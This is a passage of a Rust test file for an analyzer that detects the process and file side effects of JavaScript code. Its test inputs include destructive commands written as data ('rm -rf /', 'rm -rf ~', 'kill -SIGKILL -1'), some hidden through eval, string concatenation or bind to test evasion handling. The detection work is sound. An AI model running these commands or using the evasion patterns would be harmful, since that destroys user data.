        // The table handed on, or changed.
        "change(T);\nfor (const [c, a] of T) spawnSync(c, a);",
        "T[0] = ['rm', ['-rf', '/']];\nfor (const [c, a] of T) spawnSync(c, a);",
    ] {
        let found = effects(&format!("{head}{table}{tail}"));
        assert!(
            found.iter().any(|e| e.contains('?')) && !found.iter().any(|e| e == "exec npx tsc"),
            "{tail}: {found:?}"
        );
    }
    // An object with keys not known.
    assert_eq!(
        effects(&format!(
            "{head}const T = {{ ...more, a: ['ls', []] }};\nfor (const [n, [c, a]] of Object.entries(T)) spawnSync(c, a);"
        )),
        ["exec ? ?"]
    );
}

#[test]
fn a_rest_parameter_of_a_function_read_at_its_calls_is_the_arguments_left() {
    let git = "const { execFileSync } = require('child_process');\nconst git = (...args) => execFileSync('git', args);\n";
    assert_eq!(
        effects(&format!("{git}git('status', '-s');\ngit('log');")),
        ["exec git status -s", "exec git log"]
    );
    let run = "const cp = require('child_process');\nfunction run(cmd, ...args) { cp.spawnSync(cmd, args); }\n";
    assert_eq!(
        effects(&format!("{run}run('rm', '-rf', '/');")),
        ["exec rm -rf /"]
    );
    // Changed in the body, or given spread: not known.
    assert_eq!(
        effects(&format!(
            "{}run('ls', 'a');",
            run.replace("{ cp", "{ args.push('/'); cp")
        )),
        ["exec ls ?"]
    );
    assert_eq!(effects(&format!("{run}run('ls', ...x);")), ["exec ? ?"]);
}

#[test]
fn at_most_sixteen_loop_names_are_checked_for_being_shared() {
    // Each loop's array-valued name costs a scan of the program.
    let mut code = String::from("const { spawnSync } = require('child_process');\n");
    for k in 0..17 {
        code.push_str(&format!(
            "for (const [c{k}, a{k}] of [['ls', ['-a']]]) spawnSync(c{k}, a{k});\n"
        ));
    }
    let found = effects(&code);
    assert_eq!(found.len(), 17);
    assert!(found[..16].iter().all(|e| e == "exec ls -a"), "{found:?}");
    assert_eq!(found[16], "exec ? ?");
}

#[test]
fn an_array_or_object_shared_where_it_may_change_is_not_the_literal() {
    let head = "const cp = require('child_process');\n";
    for change in [
        "function grow(a) { a.push('/'); }\ngrow(parts);",
        "const q = parts; q.push('/');",
        "const all = [parts]; all[0].push('/');",
        "const o = { p: parts }; o.p.push('/');",
    ] {
        assert_eq!(
            effects(&format!(
                "{head}const parts = ['ls', '-la'];\n{change}\ncp.execSync(parts.join(' '));"
            )),
            ["sh -c ?"],
            "{change}"
        );
    }
    assert_eq!(
        effects(&format!(
            "{head}const o = {{ c: 'ls' }};\nconst q = o;\nq.c = 'rm -rf ~';\ncp.execSync(o.c);"
        )),
        ["sh -c ?"]
    );
    // Read, logged or handed to a library: as written.
    assert_eq!(
        effects(&format!(
            "{head}const parts = ['ls', '-la'];\nconsole.log(parts, JSON.stringify(parts));\ncp.execSync(parts.join(' '));"
        )),
        ["sh -c ls -la"]
    );
}

#[test]
fn an_array_grown_in_branches_is_read_with_each_set_of_pushes_that_may_have_run() {
    // Found by blind round 48: a test runner whose options depend on the environment.
    let runner = "const { spawnSync } = require('child_process');\nconst args = ['vitest', 'run'];\nif (process.env.CI) args.push('--reporter=junit');\nelse args.push('--reporter=verbose');\nargs.push('tests');\nspawnSync('npx', args);";
    assert_eq!(
        effects(runner),
        [
            "exec npx vitest run --reporter=junit --reporter=verbose tests",
            "exec npx vitest run --reporter=verbose tests",
            "exec npx vitest run --reporter=junit tests",
            "exec npx vitest run tests"
        ]
    );
    // Past four choices, a push that may have run adds items not known.
    assert_eq!(
        effects(
            "const cp = require('child_process');\nconst a = ['jest'];\nif (process.env.A) a.push('-a');\nif (process.env.B) a.push('-b');\nif (process.env.C) a.push('-c');\nif (process.env.D) a.push('-d');\nif (process.env.E) a.push('-e');\ncp.spawnSync('npx', a);"
        ),
        ["exec npx jest ?"]
    );
    // Without the branch, `-n` is not there, and git cleans.
    assert_eq!(
        effects(
            "const cp = require('child_process');\nconst a = ['clean', '-fd'];\nif (process.env.DRY) { a.push('-n'); }\ncp.execFileSync('git', a);"
        ),
        ["exec git clean -fd -n", "exec git clean -fd"]
    );
}

#[test]
fn an_array_pushed_to_where_the_push_may_run_again_or_after_the_read_is_not_known() {
    let head = "const cp = require('child_process');\nconst a = ['ls'];\n";
    for tail in [
        // In a loop, or a function: any number of times, at another time.
        "for (const x of process.argv) a.push(x);\ncp.execFileSync('rm', a);",
        "function f() { a.push('-rf'); }\nf();\ncp.execFileSync('rm', a);",
        "a.push('-l');\nfunction g() { cp.execFileSync('rm', a); }\ng();",
        // After the read.
        "cp.execFileSync('rm', a);\na.push('-rf');",
        // Changed besides, or shared with another name.
        "a.push('x');\na.unshift('-rf');\ncp.execFileSync('rm', a);",
        "const b = a;\nb.push('-rf');\ncp.execFileSync('rm', a);",
    ] {
        let found = effects(&format!("{head}{tail}"));
        assert!(
            !found.is_empty() && found.iter().all(|e| e.contains('?')),
            "{tail}: {found:?}"
        );
    }
}

#[test]
fn code_run_by_eval_that_uses_a_name_of_the_code_around_it_is_unreadable() {
    // Found after blind round 49: `eval` sees the names in scope, which the code it runs
    // is not read with.
    for code in [
        "const { execSync: x } = require('child_process'); eval('x(\"rm -rf ~\")')",
        "const cp = require('child_process'); eval('cp.execSync(\"rm -rf ~\")')",
    ] {
        assert!(unreadable(code).is_some(), "{code}");
    }
    assert_eq!(
        effects("eval('require(\"fs\").rmSync(\"dist\", {recursive: true})')"),
        ["rm -r dist"]
    );
}

#[test]
fn process_argv_holds_the_script_slot_of_code_from_standard_input() {
    use crate::matcher::code::Origin;
    use crate::matcher::code::testing::effects_from;
    let code = "const s = process.argv[2] || 'all'; require('child_process').execFileSync('npx', ['vitest', s])";
    // Found by the oracle: `node - unit` runs with `process.argv` `[node, '-', 'unit']`.
    assert_eq!(
        effects_from(Lang::JavaScript, code, &["unit"], Origin::Stdin),
        ["exec npx vitest unit"]
    );
    assert_eq!(
        effects_from(Lang::JavaScript, code, &["a", "unit"], Origin::Stdin),
        ["exec npx vitest a"]
    );
    assert_eq!(
        effects_from(Lang::JavaScript, code, &["x", "unit"], Origin::Inline),
        ["exec npx vitest unit"]
    );
    // Code whose arguments are not given (a file's) has them not known.
    assert_eq!(
        effects_from(Lang::JavaScript, code, &[], Origin::Elsewhere),
        ["exec npx vitest ?"]
    );
}

#[test]
fn a_loop_item_destructured_in_the_body_is_read_for_each_item() {
    // Found by blind round 53: `const [cmd, args] = step` inside the loop.
    for code in [
        "const { spawnSync } = require('child_process'); const steps = [['npx', ['tsc']], ['npx', ['eslint']]]; for (const s of steps) { const [cmd, args] = s; spawnSync(cmd, args); }",
        "const { spawnSync } = require('child_process'); const steps = [{c: 'npx', a: ['tsc']}, {c: 'npx', a: ['eslint']}]; for (const s of steps) { const {c, a} = s; spawnSync(c, a); }",
    ] {
        assert_eq!(effects(code), ["exec npx tsc", "exec npx eslint"], "{code}");
    }
    // A part shared on (put in another array) may be changed there: not the item.
    let shared = "const { spawnSync } = require('child_process'); const keep = []; const steps = [['npx', ['tsc']]]; for (const s of steps) { const [cmd, args] = s; keep.push(args); spawnSync(cmd, args); }";
    assert_eq!(effects(shared), ["exec ? ?"], "{shared}");
}

#[test]
fn a_function_bound_to_its_object_is_the_function() {
    // Found by blind round 54: `process["ki" + "ll"].bind(process)` then `k(-1, ...)`.
    for code in [
        "const k = process.kill.bind(process); k(-1, 'SIGKILL')",
        "const k = process['ki' + 'll'].bind(process); k(-1, 'SIGKILL')",
    ] {
        assert_eq!(effects(code), ["kill -SIGKILL -1"], "{code}");
    }
    assert_eq!(
        effects(
            "const cp = require('child_process'); const r = cp.execSync.bind(cp); r('rm -rf ~')"
        ),
        ["sh -c rm -rf ~"]
    );
    // With arguments bound to it, the call made later is not followed.
    for code in [
        "const cp = require('child_process'); const r = cp.execSync.bind(cp, 'rm -rf ~'); r()",
        "const fs = require('fs'); const w = fs.writeFileSync.bind(fs, '/etc/x'); w('d')",
    ] {
        assert_eq!(
            unreadable(code),
            Some("the code binds arguments to a function that runs code or commands"),
            "{code}"
        );
    }
}
